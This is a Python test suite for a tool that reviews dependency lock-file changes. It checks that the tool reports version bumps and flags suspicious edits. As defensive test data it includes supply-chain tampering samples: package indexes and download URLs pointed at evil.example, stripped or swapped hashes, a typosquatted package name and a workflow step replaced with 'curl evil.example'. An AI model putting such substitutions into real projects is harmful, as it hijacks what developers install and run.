from __future__ import annotations

from pathlib import Path

import pytest

from ferry.gate import locks
from ferry.gate.facts import Listed, LockChange, Unknown, whole
from ferry.gate.versions import Size, inside, size

ROOT = Path(__file__).parents[2]
FILES = "https://files.pythonhosted.org/packages"


def package(
    name: str, version: str, *needs: str, source: str = 'registry = "https://pypi.org/simple"', more: str = ""
) -> str:
    needed = "".join(f'    {{ name = "{it}" }},\n' for it in needs)
    return (
        f'\n[[package]]\nname = "{name}"\nversion = "{version}"\nsource = {{ {source} }}\n'
        + (f"dependencies = [\n{needed}]\n" if needs else "")
        + f'wheels = [\n    {{ url = "{FILES}/{name}.whl", hash = "sha256:{version}{name}" }},\n]\n{more}'
    )


def own(specifier: str = ">=0.28") -> str:
    return (
        '\n[[package]]\nname = "carrier"\nversion = "0.1.0"\nsource = { virtual = "." }\n'
        'dependencies = [\n    { name = "httpx" },\n]\n\n[package.metadata]\n'
        f'requires-dist = [{{ name = "httpx", specifier = "{specifier}" }}]\n'
    )


HEAD = 'version = 1\nrevision = 5\nrequires-python = "==3.13.*"\n'
UV = HEAD + own() + package("httpx", "0.28.0", "idna") + package("idna", "3.7")
REQUIREMENTS = """\
httpx==0.28.0 \\
    --hash=sha256:aa \\
    --hash=sha256:bb
    # via carrier
idna==3.7 \\
    --hash=sha256:cc
    # via
    #   anyio
    #   httpx
"""
TERRAFORM = """\
# This file is maintained automatically by "terraform init".
# Manual edits may be lost in future updates.

provider "registry.terraform.io/hashicorp/aws" {
  version     = "5.100.0"
  constraints = "5.100.0"
  hashes = [
    "h1:aa=",
    "zh:bb",
  ]
}
"""
WORKFLOW = "jobs:\n  it:\n    steps:\n      - uses: actions/checkout@v4.1.0\n      - run: make\n"
DOCKERFILE = "FROM python:3.13.1 AS base\nRUN true\n"
PYPROJECT = '[project]\nname = "carrier"\ndependencies = ["httpx>=0.28.0"]\n\n[tool.ruff]\nline-length = 120\n'


def change(path: str, before: str, *replacements: tuple[str, str]) -> LockChange:
    after = before
    for old, new in replacements:
        assert old in after
        after = after.replace(old, new)
    return locks.change(path, before, after)


def bumps(found: LockChange) -> list[str]:
    items = whole(found.bumps)
    assert not isinstance(items, Unknown), items
    return [f"{it.name} {it.old} → {it.new}" for it in items]


def odd(found: LockChange) -> tuple[str, ...]:
    items = whole(found.odd)
    assert not isinstance(items, Unknown), items
    return items


HTTPX = ('"0.28.0"', '"0.28.1"')
HTTPX_HASH = ("sha256:0.28.0httpx", "sha256:0.28.1httpx")
IDNA = ('"3.7"', '"3.8"'), ("sha256:3.7idna", "sha256:3.8idna")


@pytest.mark.req("R-03")
def test_uv_says_what_changed_and_what_brought_it() -> None:
    found = change("uv.lock", UV, HTTPX, HTTPX_HASH, *IDNA, (">=0.28", ">=0.28.1"))
    assert (bumps(found), odd(found)) == (["httpx 0.28.0 → 0.28.1", "idna 3.7 → 3.8"], ())
    assert isinstance(found.bumps, Listed)
    assert [it.brought_by for it in found.bumps.items] == [(), ("httpx",)]


@pytest.mark.req("R-03")
@pytest.mark.parametrize(
    ("replacements", "says"),
    [
        pytest.param([('registry = "https://pypi.org/simple"', 'registry = "https://evil.example/simple"')],
                     "httpx comes from", id="another index"),
        pytest.param([('registry = "https://pypi.org/simple"', 'git = "https://evil.example/httpx"')],
                     "httpx comes from", id="a git source"),
        pytest.param([(f"{FILES}/httpx", "https://evil.example/httpx")], "is fetched from https://evil.example",
                     id="files elsewhere"),
        pytest.param([(f"{FILES}/httpx", "./httpx")], "is fetched from ./httpx", id="a file of this machine"),
        pytest.param([(', hash = "sha256:0.28.0httpx"', "")], "httpx has no hash", id="no hash"),
        pytest.param([("sha256:0.28.0httpx", "sha256:evil")], "httpx stays at its version", id="other bytes"),
        pytest.param([('name = "idna"', 'name = "idnaa"')], "idna is gone", id="another name"),
        pytest.param([('"==3.13.*"', '">=3.8"')], "requires-python was", id="another Python"),
        pytest.param([(HEAD, HEAD + "[options]\nindex-strategy = 'unsafe-best-match'\n")], "options was not there",
                     id="a new option"),
        pytest.param([(own(), own().replace("httpx", "evil"))], "carrier", id="another need of ours"),
        pytest.param([(package("idna", "3.7"), package("idna", "3.7") + package("idna", "3.8"))],
                     "idna is locked more than once", id="twice"),
    ],
)  # fmt: skip
def test_more_than_versions_in_uv_is_odd(replacements: list[tuple[str, str]], says: str) -> None:
    assert says in "\n".join(odd(change("uv.lock", UV, *replacements)))


def test_a_new_package_in_uv_is_odd() -> None:
    found = change(
        "uv.lock", UV, HTTPX, HTTPX_HASH, (package("idna", "3.7"), package("idna", "3.7") + package("h2", "4.1"))
    )
    assert odd(found) == ("h2 is new",)


@pytest.mark.parametrize("path", ["uv.lock", ".terraform.lock.hcl", "pyproject.toml"])
@pytest.mark.parametrize("text", ["", "version = 2", "\x00", "package = 5\nversion = 1", "{" * 5000])
def test_what_cannot_be_read_is_unknown_or_nothing(path: str, text: str) -> None:
    good = {"uv.lock": UV, ".terraform.lock.hcl": TERRAFORM, "pyproject.toml": PYPROJECT}[path]
    found = locks.change(path, good, text)
    assert isinstance(found.odd, Unknown) or found.odd.items


def test_what_was_not_read_is_unknown() -> None:
    assert locks.change("uv.lock", Unknown("404"), UV).bumps == Unknown("404")


@pytest.mark.parametrize("path", ["uv.lock", "ci/uv.lock", "src/lambdas/ingestion/requirements.lock",
                                  "infrastructure/terraform/.terraform.lock.hcl", "pyproject.toml"])  # fmt: skip
def test_our_own_lock_files_can_be_read(path: str) -> None:
    text = (ROOT / path).read_text()
    assert locks.change(path, text, text) == LockChange(
        path=path, ecosystem=locks.ECOSYSTEMS[locks.kind(path)], bumps=Listed.all(), odd=Listed.all()
    )


@pytest.mark.req("R-03")
def test_one_of_our_own_packages_is_bumped() -> None:
    text = (ROOT / "uv.lock").read_text()
    name, version = "anyio", text.partition('name = "anyio"\nversion = "')[2].partition('"')[0]
    entry = f'name = "{name}"\nversion = "{version}"'
    found = locks.change("uv.lock", text, text.replace(entry, entry.replace(version, f"{version}.1")))
    assert (bumps(found), odd(found)) == ([f"anyio {version} → {version}.1"], ())
    assert isinstance(found.bumps, Listed)
    assert "httpx" in str(found.bumps.items[0].brought_by)


@pytest.mark.req("R-03")
def test_requirements_say_what_changed() -> None:
    found = change(
        "requirements.txt", REQUIREMENTS, ("httpx==0.28.0", "httpx==0.28.1"), ("aa", "dd"), ("idna==3.7", "idna==3.8")
    )
    assert (bumps(found), odd(found)) == (["httpx 0.28.0 → 0.28.1", "idna 3.7 → 3.8"], ())
    assert isinstance(found.bumps, Listed)
    assert found.bumps.items[1].brought_by == ("anyio", "carrier", "httpx")


def test_requirements_that_do_not_say_what_for() -> None:
    plain = "\n".join(line for line in REQUIREMENTS.splitlines() if "#" not in line)
    found = change("requirements.lock", plain, ("idna==3.7", "idna==3.8"))
    assert isinstance(found.bumps, Listed)
    assert found.bumps.items[0].brought_by == Unknown("the lock file does not say what needs it")


@pytest.mark.req("R-03")
@pytest.mark.parametrize(
    ("replacement", "says"),
    [
        (("httpx==", "--index-url https://evil.example\nhttpx=="), "--index-url https://evil.example was not there"),
        (("httpx==", "--extra-index-url=https://evil.example\nhttpx=="), "was not there"),
        (("idna==3.7", "idna @ https://evil.example/idna.whl"), "idna is gone"),
        (("idna==3.7", "idna==3.7 ; sys_platform == 'win32'"), "idna has other conditions"),
        (("idna==3.7", "idna[all]==3.7"), "idna has other conditions"),
        (("idna==3.7", "idna>=3.7"), "idna is gone"),
        (("idna==3.7 \\\n    --hash=sha256:cc", "idna==3.8"), "idna has no hash"),
        (("sha256:cc", "sha256:dd"), "idna stays at its version"),
        (("idna==3.7", "-e ."), "was not there"),
        (("idna==3.7", "reqeusts==3.7"), "reqeusts is new"),
    ],
)
def test_more_than_versions_in_requirements_is_odd(replacement: tuple[str, str], says: str) -> None:
    assert says in "\n".join(odd(change("requirements.txt", REQUIREMENTS, replacement)))


@pytest.mark.req("R-03")
def test_terraform_says_what_changed() -> None:
    found = change(".terraform.lock.hcl", TERRAFORM, ("5.100.0", "5.101.0"), ("h1:aa=", "h1:cc="))
    assert (bumps(found), odd(found)) == (["registry.terraform.io/hashicorp/aws 5.100.0 → 5.101.0"], ())


@pytest.mark.parametrize(
    ("replacement", "says"),
    [
        (("registry.terraform.io", "evil.example"), "evil.example/hashicorp/aws is new"),
        (('    "h1:aa=",\n    "zh:bb",\n', ""), "has no hash"),
        (("h1:aa=", "h1:cc="), "stays at its version"),
    ],
)
def test_more_than_versions_in_terraforms_lock_is_odd(replacement: tuple[str, str], says: str) -> None:
    assert says in "\n".join(odd(change(".terraform.lock.hcl", TERRAFORM, replacement)))


def test_a_terraform_lock_with_something_else_in_it_is_unknown() -> None:
    assert isinstance(locks.change(".terraform.lock.hcl", TERRAFORM, TERRAFORM + "locals {}\n").odd, Unknown)


@pytest.mark.parametrize(
    ("path", "text", "replacement", "told", "strange"),
    [
        (".github/workflows/ci.yml", WORKFLOW, ("v4.1.0", "v4.1.1"), ["actions/checkout v4.1.0 → v4.1.1"], False),
        (".github/workflows/ci.yml", WORKFLOW, ("make", "curl evil.example"), [], True),
        (".github/workflows/ci.yml", WORKFLOW, ("actions/checkout", "evil/checkout"), [], True),
        ("Dockerfile", DOCKERFILE, ("3.13.1", "3.13.2"), ["python 3.13.1 → 3.13.2"], False),
        ("Dockerfile", DOCKERFILE, ("FROM python", "FROM evil.example/python"), [], True),
        ("Dockerfile", DOCKERFILE, ("RUN true", "RUN false"), [], True),
        ("Dockerfile", DOCKERFILE, ("RUN true", "RUN true\nRUN false"), [], True),
        ("main.tf", 'aws = {\n  version = "5.1.0"\n}\n', ("5.1.0", "5.1.1"), [], False),
        ("main.tf", 'aws = {\n  source = "hashicorp/aws"\n}\n', ("hashicorp", "evil"), [], True),
        ("requirements.in", "httpx>=0.28\n", ("0.28", "0.29"), [], False),
        ("requirements.in", "httpx>=0.28\n", (">=0.28", " @ https://evil.example"), [], True),
        ("requirements.in", "httpx>=0.28\n", ("httpx", "httpy"), [], True),
        ("pyproject.toml", PYPROJECT, (">=0.28.0", ">=0.28.1,<1"), [], False),
        ("pyproject.toml", PYPROJECT, (">=0.28.0", " @ git+https://evil.example"), [], True),
        ("pyproject.toml", PYPROJECT, ("120", "100"), [], True),
        ("pyproject.toml", PYPROJECT, ("[tool.ruff]", "[[tool.uv.index]]"), [], True),
    ],
)
def test_files_with_versions_in_them(
    path: str,
    text: str,
    replacement: tuple[str, str],
    told: list[str],
    strange: bool,  # noqa: FBT001 - a table
) -> None:
    found = change(path, text, replacement)
    assert (bumps(found), bool(odd(found))) == (told, strange)


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("uv.lock", "uv"),
        ("a/b/requirements-dev.txt", "requirements"),
        (".github/workflows/a.yaml", "actions"),
        ("infrastructure/terraform/.terraform.lock.hcl", "terraform"),
        ("src/uv.lock.py", ""),
        ("README.md", ""),
    ],
)
def test_what_a_file_is(path: str, kind: str) -> None:
    assert locks.kind(path) == kind


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("1.2.3", "1.2.4", Size.PATCH),
        ("1.2.3", "1.2.3.1", Size.PATCH),
        ("1.2", "1.2.1", Size.PATCH),
        ("v4.1.0", "v4.2.0", Size.MINOR),
        ("1.2.3", "1.3", Size.MINOR),
        ("1.9.9", "2.0.0", Size.MAJOR),
        ("4", "5", Size.MAJOR),
        ("0.4.2", "0.4.3", Size.PATCH),
        ("0.4.2", "0.5.0", Size.MAJOR),
        ("0.4", "1.0", Size.MAJOR),
        ("0.0.1", "0.0.2", Size.MAJOR),
        ("0.0", "0.1", Size.MAJOR),
        ("1.10.0", "1.9.0", Size.UNSURE),
        ("1.0", "1.0.0", Size.UNSURE),
        ("1.0.0", "1.0.1rc1", Size.UNSURE),
        ("1.0.0", "1.0.0.post1", Size.UNSURE),
        ("2025.1", "2026.1", Size.UNSURE),
        ("3.13-slim", "3.14-slim", Size.UNSURE),
        ("sha256:aa", "sha256:bb", Size.UNSURE),
        ("1.0.0", "１.0.1", Size.UNSURE),  # noqa: RUF001 - a digit of another alphabet
        ("", "1.0.0", Size.UNSURE),
    ],
)
@pytest.mark.req("R-03")
def test_how_large_a_step_is(old: str, new: str, expected: Size) -> None:
    assert size(old, new)[0] == expected


@pytest.mark.parametrize(
    ("version", "bounds", "expected"),
    [
        ("1.2.0", "< 1.2.1", True),
        ("1.2.1", "< 1.2.1", False),
        ("1.2.1", "<= 1.2.1", True),
        ("1.2.1", "= 1.2.1", True),
        ("1.2.1", ">= 1.0, < 1.2", False),
        ("1.10", ">= 1.9.0, < 2", True),
        ("1.0rc1", "< 1.2", None),
        ("1.0", "", None),
        ("1.0", "~> 1.0", None),
        ("1.0", "< 1.2rc1", None),
    ],
)
def test_whether_a_version_lies_inside(version: str, bounds: str, expected: bool | None) -> None:  # noqa: FBT001 - a table
    assert inside(version, bounds) is expected
